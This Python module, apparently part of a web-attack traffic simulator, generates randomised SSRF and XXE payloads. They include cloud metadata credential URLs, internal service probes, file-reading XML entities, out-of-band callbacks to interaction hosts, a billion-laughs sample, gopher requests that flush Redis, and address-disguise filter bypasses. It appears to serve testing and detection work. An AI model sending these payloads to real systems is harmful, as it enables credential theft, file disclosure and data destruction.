"""Server-side request forgery and XML external entities by tools and by hand.

Sources: cloud metadata attacks (Capital One write-ups, IMDSv1), SSRFmap and Gopherus, PortSwigger on SSRF filters
(alternative addresses, redirects, credentials in addresses), OWASP on XXE.
"""

# fmt: off
# Declarations read better a line each than an element each.
from __future__ import annotations

from random import Random

from simulator.payloads import wire
from simulator.payloads.aim import Aim, Shot
from simulator.web.words import identifier


def metadata(rng: Random, aim: Aim) -> Shot:
    """The address where clouds keep credentials."""
    text = rng.choice((
        "http://169.254.169.254/latest/meta-data/",
        f"http://169.254.169.254/latest/meta-data/iam/security-credentials/{rng.choice(('', 'admin', 'ec2-role', 'default'))}",
        "http://169.254.169.254/latest/user-data", "http://169.254.169.254/latest/dynamic/instance-identity/document",
        "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
        "http://169.254.169.254/metadata/instance?api-version=2021-02-01", "http://169.254.170.2/v2/credentials/",
        "http://100.100.100.200/latest/meta-data/", "http://169.254.169.254/metadata/v1.json", "http://instance-data/latest/meta-data/hostname",
        "http://169.254.169.254/openstack/latest/meta_data.json",
    ))
    return aim.query(rng, rng.choice((wire.library, wire.raw, wire.browser))(rng, text), "url")


def inside(rng: Random, aim: Aim) -> Shot:
    """Ports of the machine itself and of private networks."""
    host = rng.choice(("127.0.0.1", "localhost", f"10.{rng.randrange(255)}.{rng.randrange(255)}.{rng.randrange(1, 255)}",
        f"192.168.{rng.randrange(3)}.{rng.randrange(1, 255)}", f"172.{rng.randrange(16, 32)}.0.{rng.randrange(1, 99)}", "0.0.0.0",
        "kubernetes.default.svc", "redis", "consul.service.consul"))
    port, path = rng.choice(((22, ""), (80, "/server-status"), (6379, "/"), (8080, "/manager/html"), (9200, "/_cat/indices"),
        (8500, "/v1/agent/self"), (2375, "/containers/json"), (3306, "/"), (5984, "/_all_dbs"), (10250, "/pods"), (8443, "/api/v1/secrets"),
        (11211, "/stats"), (15672, "/api/users"), (4040, "/")))
    text = rng.choice((f"http://{host}:{port}{path}", f"https://{host}:{port}{path}", f"//{host}:{port}{path}", f"http://{host}{path}",
        "file:///etc/passwd", "file:///proc/self/environ", f"ftp://{host}:21/"))
    return aim.query(rng, rng.choice((wire.library, wire.raw))(rng, text), "url")


def blind(rng: Random, aim: Aim) -> Shot:
    """A name under the attacker's control, in every parameter and in the referer."""
    home = f"{identifier(rng, 22)}.{rng.choice(('oast.pro', 'oast.me', 'oastify.com', 'burpcollaborator.net', 'interact.sh', 'canarytokens.com', 'ssrf.cn'))}"
    text = rng.choice((f"http://{home}/", f"https://{home}/{identifier(rng, 5)}", f"//{home}",
        f"http://{home}/?p={rng.choice(('ssrf', 'rfi', 'xxe'))}", f"http://{home}:80#.{aim.site.www}", f"http://{aim.site.www}.{home}"))
    return aim.referer(rng, text) if rng.random() < 0.12 else aim.query(rng, rng.choice((wire.library, wire.raw))(rng, text), "url")


def entities(rng: Random, aim: Aim) -> Shot:
    """XML in a parameter, with a document type that reads files or calls out."""
    name, home = identifier(rng, rng.randrange(2, 6), "abcdefxyz"), f"{identifier(rng, 12)}.oast.site"
    target = rng.choice(("file:///etc/passwd", "file:///c:/windows/win.ini", f"http://{home}/{name}",
        "php://filter/convert.base64-encode/resource=index.php", "http://169.254.169.254/latest/meta-data/", "expect://id", "jar:http://127.0.0.1!/x",
        "netdoc:/etc/hosts"))
    text = rng.choice((
        f"<?xml version=\"1.0\"?><!DOCTYPE {name} [<!ENTITY {name}x SYSTEM \"{target}\">]><{name}>&{name}x;</{name}>",
        f"<!DOCTYPE r [<!ELEMENT r ANY><!ENTITY % sp SYSTEM \"http://{home}/{name}.dtd\">%sp;%param1;]><r>&exfil;</r>",
        f"<{name} xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"{target}\"/></{name}>",
        f"<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?><!DOCTYPE {name} PUBLIC \"-//A/B/EN\" \"{target}\"><{name}/>",
        "<!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol2 \"&lol;&lol;&lol;&lol;&lol;&lol;\">]><lolz>&lol2;</lolz>",
        f"<?xml-stylesheet type=\"text/xsl\" href=\"{target}\"?><{name}/>",
    ))
    return Shot(rng.choice(("/xmlrpc", "/soap/service", "/api/import", "/sitemap.xml", "/feed", "/saml/acs", "/blog/xmlrpc.php",
        "/v2/feeds/products.xml")), f"{rng.choice(('xml', 'data', 'SAMLRequest', 'body', 'input', 'doc', 'config'))}={rng.choice((wire.library, wire.form))(rng, text)}")


def other_protocols(rng: Random, aim: Aim) -> Shot:
    """gopher and dict to speak to services; the loopback written in every other way."""
    host = rng.choice(("2130706433", "0x7f000001", "017700000001", "127.1", "0177.0.0.1", "[::1]", "[::ffff:7f00:1]", "[::ffff:a9fe:a9fe]",
        "2852039166", "0xa9fea9fe", "0251.0376.0251.0376", "①②⑦.⓪.⓪.①", "localtest.me", "0"))
    text = rng.choice((f"gopher://{host}:6379/_*1%0d%0a$8%0d%0aflushall%0d%0a*3%0d%0a$3%0d%0aset%0d%0a", f"dict://{host}:11211/stats",
        f"http://{host}/latest/meta-data/", f"http://{host}:{rng.choice((80, 8080, 9000, 5000))}/", f"gopher://{host}:3306/_%a3%00%00%01",
        f"ldap://{host}:389/%0astats%0aquit", f"tftp://{host}:69/{identifier(rng, 6)}", f"sftp://{host}:22/", "netdoc:///etc/passwd",
        f"gopher://{host}:9000/_%01%01%00%01%00%08"))
    return aim.query(rng, rng.choice((wire.raw, wire.library, wire.everything, wire.curl))(rng, text), "url")


def disguises(rng: Random, aim: Aim) -> Shot:
    """Addresses that a filter takes for the site's own: user information, fragments, wildcard DNS, redirectors."""
    own = rng.choice((aim.site.www, aim.site.apex, "google.com", "trusted.com"))
    inner = rng.choice(("127.0.0.1", "169.254.169.254", "10.0.0.1", "192.168.1.1"))
    text = rng.choice((f"http://{own}@{inner}/", f"http://{inner}#@{own}/", f"http://{inner}%2523@{own}/", f"http://{own}:80@{inner}:80/latest/",
        f"http://{inner}.nip.io/{identifier(rng, 4)}", f"http://{inner.replace('.', '-')}.sslip.io/", f"http://{own}&@{inner}#@{own}/",
        f"http://{inner}\\@{own}/", f"https://{own}/redirect?to=http://{inner}/", f"http://spoofed.{identifier(rng, 6)}.rbndr.us/", f"http:{inner}/",
        f"http://{inner}:443\\@{own}"))
    return aim.query(rng, rng.choice((wire.raw, wire.library))(rng, text), "url")
